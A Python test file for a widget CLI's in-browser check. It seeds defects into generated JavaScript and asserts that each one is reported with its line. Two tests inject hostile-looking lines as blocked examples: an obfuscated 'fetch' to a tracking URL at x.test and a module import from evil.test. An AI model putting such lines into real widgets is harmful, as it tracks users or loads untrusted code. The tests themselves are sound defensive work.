"""The browser check (vibewidget_cli.browser.verify): every built-in template passes it, and
seeded defects in a generated file each fail it with the right line.

One Chromium for the module (Debian's, or Playwright's own); each widget takes about a second.
Skips when no browser starts, and fails under CI=true.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers import cannot_start
from vibewidget_cli.browser.launch import NoBrowser, launch
from vibewidget_cli.browser.verify import declared_imports, verify
from vibewidget_cli.render import render_widget
from vibewidget_cli.spec import TraitSpec, WidgetSpec
from vibewidget_cli.templates import all_templates, get_template

ROOT = Path(__file__).resolve().parent.parent
THREE_FILE = ROOT / "tests" / "e2e" / "js" / "node_modules" / "three" / "build" / "three.module.js"
MODULE_MAP = json.dumps({"https://esm.sh/three@0.160.0": str(THREE_FILE)})


@pytest.fixture(scope="module")
def chromium(playwright_driver):
    try:
        browser = launch(playwright_driver)
    except NoBrowser as error:
        cannot_start(str(error))
    yield browser
    browser.close()


@pytest.fixture(autouse=True)
def _module_map(monkeypatch):
    monkeypatch.setenv("VIBEW_MODULE_MAP", MODULE_MAP)


def typical(kind: str) -> WidgetSpec:
    """A widget of template `kind` with a trait in each of its slots (the generic one gets
    an export and an import)."""
    template = get_template(kind)
    traits = [TraitSpec(s.default_name, s.types[0], s.role, s.description) for s in template.slots]
    if kind == "generic":
        traits = [TraitSpec("picked", "str", "export"), TraitSpec("level", "float", "import")]
    return WidgetSpec(kind, template=kind, traits=traits)


def files(spec: WidgetSpec) -> tuple[str, str]:
    made = {f.path: f.text for f in render_widget(spec, "widgets")}
    return made[f"widgets/{spec.name}.js"], made[f"widgets/{spec.name}.css"]


@pytest.mark.parametrize("kind", sorted(all_templates()))
def test_every_template_passes(chromium, kind):
    spec = typical(kind)
    if declared_imports(files(spec)[0]) and not THREE_FILE.is_file():
        cannot_start(f"{THREE_FILE} missing (npm ci --prefix tests/e2e/js)")
    js, css = files(spec)
    assert verify(js, css, spec, get_template(kind), source="w.js", browser=chromium) == []


@pytest.mark.parametrize(("kind", "role"), [("scatter", "export"), ("histogram", "import")])
def test_a_predicate_selection_passes(chromium, kind, role):
    """A brush exported as a predicate, and a histogram importing one: with no kernel in the
    page to count it, the histogram says which selection it could not count."""
    spec = WidgetSpec(kind, template=kind, traits=[TraitSpec("brush", "predicate", role)])
    js, css = files(spec)
    assert verify(js, css, spec, get_template(kind), source="w.js", browser=chromium) == []


SCATTER = typical("scatter")


def scatter_js() -> tuple[str, str, list[str]]:
    js, css = files(SCATTER)
    return js, css, js.splitlines()


def line_of(lines: list[str], needle: str) -> int:
    return next(n for n, text in enumerate(lines, start=1) if needle in text)


def seeded(lines: list[str], after: str, statement: str) -> tuple[str, int]:
    """The JS with `statement` on a new line after the first line containing `after`."""
    at = line_of(lines, after)
    return "\n".join([*lines[:at], statement, *lines[at:]]) + "\n", at + 1


@pytest.fixture
def check(chromium):
    """The browser check of a scatter widget's `js`."""

    def run(js: str, css: str) -> list[str]:
        return verify(js, css, SCATTER, get_template("scatter"), source="w.js", browser=chromium)

    return run


def test_throw_in_render_names_its_line(check):
    _js, css, lines = scatter_js()
    bad, line = seeded(lines, "function render(", '  throw new TypeError("seeded");')
    assert check(bad, css) == [f"w.js:{line}: render threw TypeError: seeded"]


def test_removed_set_names_the_export(check):
    js, css, _lines = scatter_js()
    bad = js.replace('    model.set("selected_indices", rowsToSave(brushed, table.length));\n', "")
    problems = check(bad, css)
    line = line_of(bad.splitlines(), '"selected_indices"')
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"w.js:{line}: export 'selected_indices' never changed")


def test_obfuscated_fetch_is_blocked_at_its_line(check):
    _js, css, lines = scatter_js()
    bad, line = seeded(
        lines, "function render(", '  globalThis["fe" + "tch"]("https://x.test/track");'
    )
    assert check(bad, css) == [f"w.js:{line}: network request to https://x.test/track blocked"]


def test_console_error_names_its_line(check):
    _js, css, lines = scatter_js()
    bad, line = seeded(lines, "function render(", '  console.error("seeded trouble");')
    assert check(bad, css) == [f"w.js:{line}: console.error: seeded trouble"]


def test_import_that_changes_nothing_fails(chromium):
    spec = typical("histogram")
    js, css = files(spec)
    # The listener still exists, but does nothing.
    bad = js.replace('model.on("change:selected_indices"', 'model.on("change:nothing_here"')
    assert bad != js
    problems = verify(bad, css, spec, get_template("histogram"), source="w.js", browser=chromium)
    assert len(problems) == 1 and "import 'selected_indices'" in problems[0], problems


def test_messy_tables_are_checked(check):
    """A widget that draws clean data but throws on a table with no rows fails the check,
    which names the table that broke it and the line."""
    _js, css, lines = scatter_js()
    bad, line = seeded(
        lines,
        "function render(",
        '  if (model.get("data")?.length === 0) throw new RangeError("no rows to scale");',
    )
    assert check(bad, css) == [
        f"w.js:{line}: with no rows: render threw RangeError: no rows to scale"
    ]


def test_a_widget_that_freezes_on_many_names_fails(chromium):
    """Drawing 100,000 names one DOM node at a time freezes the page: the check says so."""
    from vibewidget_cli.browser.synthetic import messy_tables

    assert "100,000 distinct names" in dict(messy_tables())
    spec = WidgetSpec("slow", template="generic", data=True)
    js = (
        "function render({ model, el }) {\n"
        '  const table = model.get("data");\n'
        "  const t0 = performance.now();\n"
        "  if (table && table.length > 50000) while (performance.now() - t0 < 6000);\n"
        "  el.textContent = `${table?.length ?? 0} rows`;\n"
        "}\n"
        "export default { render };\n"
    )
    problems = verify(js, "", spec, get_template("generic"), source="w.js", browser=chromium)
    assert any(
        "with 100,000 distinct names: drawing took" in p and "frozen" in p for p in problems
    ), problems


def test_cli_check_browser(tmp_path, chromium):
    """`vibew check --browser NAME`: one line per problem, exit 1, and the time it took."""
    from tests.helpers import run_vibew

    run_vibew(tmp_path, "new", "scatter", "--exports", "selected_indices")
    done = run_vibew(tmp_path, "check", "--browser")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "browser check: scatter" in done.stdout
    path = tmp_path / "widgets" / "scatter.js"
    path.write_text(
        path.read_text().replace(
            "function render({ model, el, signal }) {",
            "function render({ model, el, signal }) {\n  null.x;",
        )
    )
    done = run_vibew(tmp_path, "check", "--browser", "scatter")
    assert done.returncode == 1
    assert "widgets/scatter.js:18: render threw TypeError" in done.stdout, done.stdout


def test_only_imports_the_static_rules_accept_may_load(chromium):
    """A module from a host that is no known CDN, or an import written in a comment, declares
    nothing: the request is blocked and reported, never sent."""
    from vibewidget_cli.browser.verify import declared_imports

    module = (
        '// import * as x from "https://esm.sh/three@0.160.0";\n'
        'import * as evil from "https://evil.test/lib@1.0.0";\n'
        'import * as three from "https://esm.sh/three@0.160.0";\n'
    )
    assert declared_imports(module) == ["https://esm.sh/three@0.160.0"]
    spec = typical("generic")
    js, css = files(spec)
    js = 'import * as evil from "https://evil.test/lib@1.0.0";\n' + js
    problems = verify(js, css, spec, get_template("generic"), source="w.js", browser=chromium)
    assert any("network request to https://evil.test/lib@1.0.0 blocked" in p for p in problems)


def test_a_widget_wider_than_a_narrow_cell_fails(chromium):
    """A widget drawn at a fixed 800 px scrolls sideways in a 500 px cell: the check says so."""
    spec = typical("generic")
    js = (
        "function render({ model, el }) {\n"
        '  const box = document.createElement("div");\n'
        '  box.style.width = "800px";\n'
        '  box.textContent = String(model.get("level"));\n'
        '  model.on("change:level", () => { box.textContent = String(model.get("level")); });\n'
        '  el.addEventListener("click", () => { model.set("picked", "x"); model.save_changes(); });\n'
        "  el.append(box);\n"
        "}\n"
        "export default { render };\n"
    )
    problems = verify(js, "", spec, get_template("generic"), source="w.js", browser=chromium)
    assert problems == [
        "w.js:1: with a cell 500 px wide: it needs 800 px: it scrolls sideways instead of fitting"
    ]


def test_a_widget_that_breaks_on_a_grid_with_holes_fails(chromium):
    """terrain3d drawn by a widget that assumes every cell has a height: the check names the
    grid with missing cells, and the 1 x 1 grid passes."""
    spec = typical("terrain3d")
    js, css = files(spec)
    if not THREE_FILE.is_file():
        cannot_start(f"{THREE_FILE} missing (npm ci --prefix tests/e2e/js)")
    lines = js.splitlines()
    bad, line = seeded(
        lines,
        "function render(",
        '  const grid = model.get("heightmap"); if (grid?.values && new Float32Array('
        'grid.values.buffer).some(Number.isNaN)) throw new RangeError("a hole");',
    )
    problems = verify(bad, css, spec, get_template("terrain3d"), source="w.js", browser=chromium)
    assert problems == [
        f"w.js:{line}: with a 64 by 64 grid with missing cells: render threw RangeError: a hole"
    ]
